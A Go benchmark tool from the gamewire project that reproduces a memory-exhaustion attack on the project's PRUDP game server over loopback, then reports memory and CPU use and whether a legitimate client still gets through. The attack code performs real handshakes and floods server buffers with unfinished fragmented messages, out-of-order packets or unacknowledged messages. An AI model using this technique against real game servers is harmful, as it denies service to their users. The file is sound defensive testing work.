// Command bufferattack reproduces the memory attack of issue 18 against a
// `gamewire serve` it starts on loopback, and reports the server's resident
// memory before and after: every attacking connection completes a real
// PRUDP V1 handshake (no credentials: an authentication server or the echo
// diagnostic), sends about 1 MB of a message whose last fragment never
// comes, then skips one sequence id and sends 511 early packets of 4,000
// bytes (the reorder window's worth), and stays silent; with -messages N it
// instead sends N complete one-packet messages and acknowledges none of the
// answers. A legitimate client gets its echoes (-echo) or logs in (NEX)
// again and again during the attack, and once more afterwards. It reports
// the server's RSS idle, at its peak and after, and its CPU time.
//
//	go build -o /tmp/gamewire ../cmd/gamewire   (from bench/: the binary measured)
//	go run ./cmd/bufferattack -gamewire /tmp/gamewire -conns 200 -echo
//	go run ./cmd/bufferattack -gamewire /tmp/gamewire -conns 200 -echo -- --max-buffer 64MiB [--memory-limit off]
//	go run ./cmd/bufferattack -gamewire /tmp/gamewire -conns 200 -echo -messages 2000 -- --max-buffer 64MiB
//	go run ./cmd/bufferattack -gamewire /tmp/gamewire -conns 200        (the NEX servers)
//
// Arguments after -- go to `gamewire serve`. docs/security.md ("PRUDP
// engine") records the figures.
package main

import (
	"bufio"
	"context"
	"crypto/rand"
	"errors"
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"

	"github.com/gamewire/gamewire/nex"
	"github.com/gamewire/gamewire/nex/auth"
	"github.com/gamewire/gamewire/prudp"
	"github.com/gamewire/gamewire/prudp/wire"
)

const accessKey = "3d37fbdb" // serve's default

var (
	binary  = flag.String("gamewire", "gamewire", "the gamewire binary to run `serve` with")
	conns   = flag.Int("conns", 200, "attacking connections")
	echo    = flag.Bool("echo", false, "attack `serve --echo` (default: the NEX authentication server)")
	frags   = flag.Int("fragments", 800, "fragments of 1,300 bytes of the unfinished message per connection")
	early   = flag.Int("early", 511, "early packets of 4,000 bytes per connection, after the hole")
	unacked = flag.Int("messages", 0, "instead of the above, complete messages of 1,000 bytes per connection whose answers are never acknowledged (they pile up in the server's queues)")
	settle  = flag.Duration("settle", 3*time.Second, "wait after the attack before measuring")
	spacing = flag.Duration("spacing", 2*time.Millisecond, "pause after every 32 packets sent (loopback's socket buffers overflow otherwise)")
)

func main() {
	flag.Parse()
	log.SetFlags(0)
	addr := freeUDPAddr()
	args := []string{"serve", "--listen", addr}
	if *echo {
		args = append(args, "--echo")
	} else {
		dir, err := os.MkdirTemp("", "bufferattack")
		if err != nil {
			log.Fatal(err)
		}
		defer os.RemoveAll(dir)
		args = append(args, "--data", dir, "--secure-listen", freeUDPAddr(), "--datastore-listen", freeTCPAddr())
	}
	args = append(args, flag.Args()...)
	cmd := exec.Command(*binary, args...)
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		log.Fatal(err)
	}
	defer func() { _ = cmd.Process.Signal(os.Interrupt); _ = cmd.Wait() }()
	fmt.Printf("server: %s %s\n", *binary, strings.Join(args, " "))

	if err := legit(addr, 30*time.Second); err != nil {
		log.Fatalf("legitimate client before the attack: %v", err)
	}
	time.Sleep(time.Second)
	pid := cmd.Process.Pid
	idle := status(pid, "VmRSS:")
	fmt.Printf("idle RSS %.1f MB\n", mb(idle))

	// A legitimate client goes on during the attack, one echo probe or
	// login after another.
	stopLegit := make(chan struct{})
	legitDone := make(chan [2]int)
	go func() {
		var ok, failed int
		for {
			select {
			case <-stopLegit:
				legitDone <- [2]int{ok, failed}
				return
			default:
			}
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			if err := legitOnce(ctx, addr); err != nil {
				failed++
				log.Printf("legitimate client during the attack: %v", err)
			} else {
				ok++
			}
			cancel()
			time.Sleep(250 * time.Millisecond)
		}
	}()
	cpu0 := cpuTime(pid)
	start := time.Now()
	var socks []*net.UDPConn
	for i := range *conns {
		c, err := attack(addr)
		if err != nil {
			log.Fatalf("attacking connection %d: %v", i, err)
		}
		socks = append(socks, c)
	}
	took := time.Since(start)
	if *unacked > 0 {
		fmt.Printf("%d connections sent %d messages of 1,000 bytes each, acknowledging nothing, in %v\n", *conns, *unacked, took.Round(time.Millisecond))
	} else {
		fmt.Printf("%d connections sent %d fragments of 1,300 bytes and %d early packets of 4,000 bytes each in %v\n",
			*conns, *frags, *early, took.Round(time.Millisecond))
	}
	time.Sleep(*settle)
	close(stopLegit)
	during := <-legitDone
	cpu := cpuTime(pid) - cpu0
	after, peak := status(pid, "VmRSS:"), status(pid, "VmHWM:")
	fmt.Printf("server CPU during the attack and settling: %v (%.0f%% of one core over %v)\n",
		cpu.Round(time.Millisecond), 100*cpu.Seconds()/time.Since(start).Seconds(), time.Since(start).Round(time.Second))
	fmt.Printf("legitimate client during the attack: %d %s ok, %d failed\n", during[0], map[bool]string{true: "echo probes", false: "logins"}[*echo], during[1])
	fmt.Printf("RSS idle %.1f MB, peak %.1f MB, after %.1f MB (%.1fx idle)\n", mb(idle), mb(peak), mb(after), float64(after)/float64(idle))
	if err := legit(addr, 20*time.Second); err != nil {
		fmt.Printf("legitimate client after the attack: FAILED: %v\n", err)
	} else {
		fmt.Println("legitimate client after the attack: ok")
	}
	for _, s := range socks {
		s.Close()
	}
}

// legit runs what a real client does: echoes, or a NEX login.
func legit(addr string, within time.Duration) error {
	ctx, cancel := context.WithTimeout(context.Background(), within)
	defer cancel()
	for {
		err := legitOnce(ctx, addr)
		if err == nil || ctx.Err() != nil {
			return err
		}
		time.Sleep(200 * time.Millisecond)
	}
}

func legitOnce(ctx context.Context, addr string) error {
	hctx, hcancel := context.WithTimeout(ctx, 5*time.Second)
	defer hcancel()
	if !*echo {
		s, err := nex.Login(hctx, addr, nex.LoginConfig{User: "guest", Password: auth.GuestPassword, Config: prudp.Config{AccessKey: accessKey}})
		if err != nil {
			return err
		}
		return s.Close(hctx)
	}
	c, err := prudp.Dial(hctx, addr, &prudp.Config{AccessKey: accessKey})
	if err != nil {
		return err
	}
	defer c.Abort()
	rep, err := prudp.EchoProbe(hctx, c, 0, 10, 200)
	if err == nil && rep.Received != 10 {
		err = fmt.Errorf("%d echoes of 10", rep.Received)
	}
	return err
}

// attack opens one connection by hand (prudp/wire) and fills its buffers.
func attack(addr string) (*net.UDPConn, error) {
	ua, _ := net.ResolveUDPAddr("udp", addr)
	c, err := net.DialUDP("udp", nil, ua)
	if err != nil {
		return nil, err
	}
	d := wire.NewV1(accessKey)
	src := wire.VPort{Stream: wire.StreamType(prudp.StreamRVSecure), Port: 0xf}
	dst := wire.VPort{Stream: wire.StreamType(prudp.StreamRVSecure), Port: 1}
	send := func(p *wire.Packet, connSig []byte) error {
		b, err := d.Append(nil, p)
		if err == nil {
			err = d.SignPacket(b, nil, connSig)
		}
		if err == nil {
			_, err = c.Write(b)
		}
		return err
	}
	answer := func(typ wire.PacketType) (wire.Packet, error) {
		buf := make([]byte, 4096)
		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
		for {
			n, err := c.Read(buf)
			if err != nil {
				return wire.Packet{}, err
			}
			p, _, err := d.Parse(buf[:n])
			if err == nil && p.Type == typ && p.Flags&wire.FlagAck != 0 {
				return p, nil
			}
		}
	}
	var p wire.Packet
	for try := 0; ; try++ {
		if err := send(&wire.Packet{Src: src, Dst: dst, Type: wire.TypeSyn, Flags: wire.FlagNeedAck, SupportedFunctions: 4}, nil); err != nil {
			return nil, err
		}
		if p, err = answer(wire.TypeSyn); err == nil || try == 3 {
			break
		}
	}
	if err != nil {
		return nil, fmt.Errorf("SYN: %w", err)
	}
	serverSig := p.ConnSignature[:]
	var ours [16]byte
	_, _ = rand.Read(ours[:])
	const sid = 0x42
	for try := 0; ; try++ {
		con := &wire.Packet{Src: src, Dst: dst, Type: wire.TypeConnect, Flags: wire.FlagReliable | wire.FlagNeedAck, SessionID: sid,
			Seq: 1, ConnSignature: ours, SupportedFunctions: 4}
		if err := send(con, serverSig); err != nil {
			return nil, err
		}
		if _, err = answer(wire.TypeConnect); err == nil || try == 3 {
			break
		}
	}
	if err != nil {
		return nil, fmt.Errorf("CONNECT: %w", err)
	}
	seq := uint16(2)
	data := func(fragment uint32, payload []byte) error {
		q := &wire.Packet{Src: src, Dst: dst, Type: wire.TypeData, Flags: wire.FlagReliable | wire.FlagNeedAck | wire.FlagHasSize,
			SessionID: sid, Seq: seq, FragmentID: fragment, Payload: payload}
		seq++
		if seq%32 == 0 {
			time.Sleep(*spacing)
		}
		return send(q, serverSig)
	}
	if *unacked > 0 {
		msg := make([]byte, 1000)
		for range *unacked {
			if err := data(0, msg); err != nil {
				return nil, err
			}
		}
		return c, nil
	}
	body := make([]byte, 1300)
	for i := range *frags {
		if err := data(uint32(i%255)+1, body); err != nil {
			return nil, err
		}
	}
	seq++ // the hole
	big := make([]byte, 4000)
	for range *early {
		if err := data(1, big); err != nil {
			return nil, err
		}
	}
	return c, nil
}

// status reads a size in kB from a process's /proc status (Linux):
// "VmRSS:" its resident set, "VmHWM:" the most it has been.
func status(pid int, field string) int64 {
	f, err := os.Open("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if rest, ok := strings.CutPrefix(sc.Text(), field); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")), 10, 64)
			if err != nil {
				log.Fatal(err)
			}
			return kb << 10
		}
	}
	log.Fatal(errors.New("no " + field + " in /proc/PID/status"))
	return 0
}

// cpuTime reads the user and system CPU time a process has used (Linux:
// fields 14 and 15 of /proc/PID/stat, in clock ticks of 1/100 s).
func cpuTime(pid int) time.Duration {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		log.Fatal(err)
	}
	// The command name (field 2) may hold spaces: count from its ')'.
	i := strings.LastIndexByte(string(b), ')')
	f := strings.Fields(string(b[i+1:]))
	if len(f) < 13 {
		log.Fatalf("short /proc/%d/stat", pid)
	}
	var ticks int64
	for _, s := range f[11:13] {
		n, err := strconv.ParseInt(s, 10, 64)
		if err != nil {
			log.Fatal(err)
		}
		ticks += n
	}
	return time.Duration(ticks) * 10 * time.Millisecond
}

func mb(b int64) float64 { return float64(b) / 1e6 }

func freeUDPAddr() string {
	c, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		log.Fatal(err)
	}
	defer c.Close()
	return c.LocalAddr().String()
}

func freeTCPAddr() string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer l.Close()
	return l.Addr().String()
}
